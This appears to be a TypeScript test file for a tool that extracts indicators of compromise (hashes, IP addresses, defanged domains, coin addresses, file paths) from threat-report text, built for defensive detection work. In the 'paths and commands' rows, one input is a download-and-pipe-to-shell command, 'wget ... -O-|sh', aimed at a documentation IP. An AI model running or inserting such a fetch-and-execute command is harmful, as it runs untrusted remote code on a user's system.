import { MD5 } from './digests';
import { describeRows } from './rows';
import type { Row } from './rows';

/** Classes of mistakes that passages in the style of published reports brought to light: what must be found and a near miss. */
const SHA1 = `${MD5}0d1c2b3a`;
const SHA256 = `${SHA1}${MD5.slice(0, 24)}`;
const SSDEEP = 'Xc5LqPwT9vRk2mZs:Yb3NdHf7';

const digests: Row[] = [
  ['fuzzy hash whose text starts with a slash', `ssdeep 96:/${SSDEEP}`, [`ssdeep 96:/${SSDEEP}`]],
  ['fuzzy hash whose text starts with two slashes', `ssdeep 96://${SSDEEP}`, [`ssdeep 96://${SSDEEP}`]],
  ['number before a path', 'line 96:/etc/cron.d/a', ['unix_path /etc/cron.d/a']],
  ['digest broken after 48 digits', `${SHA256.slice(0, 48)}\n${SHA256.slice(48)} 2 kB`, [`sha256 ${SHA256}`]],
  ['digest broken where another one would end', `a ${SHA1}\r\n  ${SHA256.slice(40)}`, [`sha256 ${SHA256}`]],
  ['short digest broken over lines', `${SHA1.slice(0, 36)}\n${SHA1.slice(36)}`, [`sha1 ${SHA1}`]],
  [
    'digest in three pieces',
    `${SHA256.slice(0, 36)}\n${SHA256.slice(36, 50)}\n${SHA256.slice(50)}`,
    [`sha256 ${SHA256}`],
  ],
  ['two digests on two lines', `${MD5}\n${MD5}`, [`md5 ${MD5}`, `md5 ${MD5}`]],
  ['digest before a date', `${SHA1}\n20261103`, [`sha1 ${SHA1}`]],
  ['digits before a longer word', `${SHA256.slice(0, 48)}\n${SHA256.slice(48)}xyz`, []],
  ['empty line between the pieces', `${SHA256.slice(0, 48)}\n\n${SHA256.slice(48)}`, []],
  ['last line of a dump', `${SHA256.slice(0, 60)}\n${SHA256.slice(0, 60)}\n${SHA256.slice(60)}`, []],
  ['words between the label and an import hash', `imphash of the loader: ${MD5}`, [`imphash ${MD5}`]],
  ['import hash mentioned before', `imphash unknown, MD5: ${MD5}`, [`md5 ${MD5}`]],
  [
    'address of Tron without a digit',
    'to TSFQZEbYzdwtEQpZpJSyoHkovrTNChvHYF',
    ['trx TSFQZEbYzdwtEQpZpJSyoHkovrTNChvHYF'],
  ],
  ['letters that are no address', 'to TSFQZEbYzdwtEQpZpJSyoHkovrTNChvHYG', []],
];

const versions: Row[] = [
  ['field of a version resource', 'FileVersionNumber: 3.14.0.8', []],
  ['Chinese word right before', '版本号为2.0.0.5。', []],
  ['Chinese word and a full-width colon', '版本号：2.0.0.5', []],
  ['Korean word and a blank', '버전 3.2.1.0, 주소 203.0.113.7', ['ipv4 203.0.113.7']],
  ['Chinese word for an address', 'IP地址：203.0.113.7', ['ipv4 203.0.113.7']],
  ['table of contents', '1.2.3.4 Persistence ........ 9', []],
  ['heading in the text', '1.2.3.4 Persistence and more.', ['ipv4 1.2.3.4']],
  ['small numbers behind a program', 'It ran containerd 1.7.20.1 and AnyDesk.exe 8.0.9.0.', ['file_name AnyDesk.exe']],
  ['small numbers behind words of many languages', 'Phiên bản 1.0.0.9; relatório 2.0.1.5', []],
  ['greater numbers behind a word', 'It ran implants 203.0.113.7', ['ipv4 203.0.113.7']],
  ['small numbers as an address', 'sent from 5.8.18.7 to IP 5.8.18.9.', ['ipv4 5.8.18.7', 'ipv4 5.8.18.9']],
  ['small numbers in a column', '443,5.8.18.7\n5.8.18.9', ['ipv4 5.8.18.7', 'ipv4 5.8.18.9']],
  ['small numbers with a mark', 'implants 5[.]8.18.7', ['ipv4 5.8.18.7']],
  ['resolver behind a word', 'Cloudflare 1.1.1.1', ['ipv4 1.1.1.1']],
  ['protocol after an address', '203.0.113.7/tcp and 203.0.113.8/udp', ['ipv4 203.0.113.7', 'ipv4 203.0.113.8']],
  ['folder named like a protocol', '203.0.113.7/tcp/a', ['url http://203.0.113.7/tcp/a']],
];

const names: Row[] = [
  ['mailbox with a plus sign', 'ann.lee.dev+hr@parcel-track.top', ['email ann.lee.dev+hr@parcel-track.top']],
  [
    'hosts joined by a plus sign',
    'parcel-track.top+bank-verify.top',
    ['domain parcel-track.top', 'domain bank-verify.top'],
  ],
  ['mark of a footnote', 'parcel-track.top³ and 203.0.113.7²', ['domain parcel-track.top', 'ipv4 203.0.113.7']],
  ['letter of another script', 'parcel-track.topß', []],
  ['brackets as entities', 'parcel-track&#91;.&#93;top', ['domain parcel-track.top']],
  [
    'scheme with brackets as entities',
    'hxxp&#91;:&#93;//parcel-track&#x5B;.&#x5D;top/a',
    ['url http://parcel-track.top/a'],
  ],
  ['note in brackets as entities', 'parcel-track.top&#91;1&#93;', ['domain parcel-track.top']],
  ['kind of a detection narrowed down', 'Trojan-PSW.MSIL.Stealer.cc', []],
  ['host that starts like a detection', 'trojan-psw.cc', ['domain trojan-psw.cc']],
  ['package below io', 'io.netty.channel', []],
  [
    'host below io in a country',
    'io.parcel-track.channel and io.shop.de',
    ['domain io.parcel-track.channel', 'domain io.shop.de'],
  ],
  ['prefetched program', 'CMD.EXE-1F3B2C77.pf', ['file_name CMD.EXE-1F3B2C77.pf']],
  ['host in Polynesia', 'cmd-1f3b2c77.pf and island.pf', ['domain cmd-1f3b2c77.pf', 'domain island.pf']],
  [
    'types of scripts and code',
    'a_support.scpt, classes2.dex, doc.hwp',
    ['file_name a_support.scpt', 'file_name classes2.dex', 'file_name doc.hwp'],
  ],
  ['Korean name with an underscore', '"국방_간담회.hwp.lnk"', ['file_name 국방_간담회.hwp.lnk']],
  ['Korean sentence around a host', '주소는parcel-track.top이다', ['domain parcel-track.top']],
];

const paths: Row[] = [
  ['list of folders', 'PATH=/usr/bin:/usr/local/bin', ['unix_path /usr/bin', 'unix_path /usr/local/bin']],
  ['volume of a container', '-v /var/lib/a:/var/lib/b:ro x', ['unix_path /var/lib/a', 'unix_path /var/lib/b']],
  ['colon inside a path', '/sys/bus/pci/0000:00:1f.2/rom', ['unix_path /sys/bus/pci/0000:00:1f.2/rom']],
  [
    'folder of macOS with a blank',
    '~/Library/Application Support/Acme/a.db was',
    ['unix_path ~/Library/Application Support/Acme/a.db'],
  ],
  ['words after a folder', '~/Library/Application was read', ['unix_path ~/Library/Application']],
  ['Korean particle after a file', String.raw`%TEMP%\a.bat로 저장`, [String.raw`windows_path %TEMP%\a.bat`]],
  ['Korean particle after a script', '/tmp/a.sh를 실행', ['unix_path /tmp/a.sh']],
  ['Korean folder and file', String.raw`C:\대한\보고서.hwp`, [String.raw`windows_path C:\대한\보고서.hwp`]],
  [
    'two folders in a sentence',
    String.raw`from %TEMP%\Local State and %APPDATA%\Acme\a.wallet.`,
    [String.raw`windows_path %TEMP%\Local State`, String.raw`windows_path %APPDATA%\Acme\a.wallet`],
  ],
  [
    'two files of a command',
    String.raw`-decode %TEMP%\a1 %TEMP%\b2 -x`,
    [String.raw`windows_path %TEMP%\a1`, String.raw`windows_path %TEMP%\b2`],
  ],
  ['words after a folder of Windows', String.raw`C:\Local states`, [String.raw`windows_path C:\Local`]],
  ['command in a form', 'wget+http://203.0.113.7/t+-O-|sh', ['url http://203.0.113.7/t']],
  ['plus sign in a path', 'http://parcel-track.top/c++/a', ['url http://parcel-track.top/c++/a']],
];

describeRows('digests and addresses of coins', digests);
describeRows('versions, headings and protocols', versions);
describeRows('names', names);
describeRows('paths and commands', paths);
